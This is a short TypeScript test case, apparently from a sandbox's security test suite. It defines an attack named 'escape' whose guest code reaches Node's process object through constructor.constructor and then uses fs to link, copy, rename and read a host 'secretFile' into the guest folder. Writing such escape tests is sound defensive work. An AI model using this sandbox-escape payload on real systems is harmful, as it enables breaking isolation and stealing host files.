import { attack } from '../attack.ts';

/** A second name for the host's file, and for a file of the system, in the guest's folder. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const fs = host?.constructor.constructor('return process')().getBuiltinModule('fs');
		if (!fs) return;
		const told = [];
		for (const step of [() => fs.linkSync(secretFile, 'linked.txt'), () => fs.copyFileSync(secretFile, 'copied.txt'), () => fs.cpSync(secretFile, 'copied-too.txt'), () => fs.renameSync(secretFile, 'moved.txt'), () => fs.renameSync('moved.txt', secretFile), () => fs.readFileSync('linked.txt', 'utf8')]) { try { told.push(step()); } catch (error) { told.push(error.code); } }
		return told;
	`,
});
